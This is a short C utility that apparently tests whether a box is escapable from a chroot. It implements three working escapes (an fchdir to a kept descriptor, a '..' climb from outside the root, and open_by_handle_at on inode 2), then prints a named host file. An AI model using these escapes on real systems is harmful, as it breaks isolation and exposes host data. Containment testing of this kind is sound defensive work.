/* SPDX-License-Identifier: MIT */
/*
 * chroot-escape - the well-known ways out of a chroot, for the tests that a box has none
 *
 *   chroot-escape fchdir|dotdot|handle FILE
 *
 * fchdir   chroot into a directory below with a descriptor of the old root open, fchdir to it, climb, chroot there
 * dotdot   the same with the working directory left outside
 * handle   open_by_handle_at of inode 2, the root of most disks
 *
 * Then prints what FILE (an absolute path of the host) holds, if it can be opened. Status 0: escaped, 1: not.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void climb(void)
{
	for (int i = 0; i < 256; i++)
		if (chdir(".."))
			return;
}

static int leave_chroot(int keep_descriptor)
{
	int old = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/below", 0700);
	if (chroot("/tmp/below")) {
		perror("chroot");
		return -1;
	}
	if (keep_descriptor && fchdir(old))
		perror("fchdir");
	climb();
	return chroot(".");
}

static int open_root_by_handle(void)
{
	struct {
		struct file_handle head;
		unsigned int inode[2];
	} handle = { .head = { .handle_bytes = 8, .handle_type = 1 }, .inode = { 2, 0 } };
	int mount = open("/", O_RDONLY | O_DIRECTORY);
	int root = open_by_handle_at(mount, &handle.head, O_RDONLY | O_DIRECTORY);

	if (root < 0) {
		perror("open_by_handle_at");
		return -1;
	}
	return fchdir(root) || chroot(".");
}

int main(int argc, char **argv)
{
	char text[4096];

	if (argc != 3)
		return 2;
	if (!strcmp(argv[1], "fchdir"))
		leave_chroot(1);
	else if (!strcmp(argv[1], "dotdot"))
		leave_chroot(0);
	else
		open_root_by_handle();

	FILE *file = fopen(argv[2], "r");

	if (!file)
		return 1;
	while (fgets(text, sizeof(text), file))
		fputs(text, stdout);
	return 0;
}
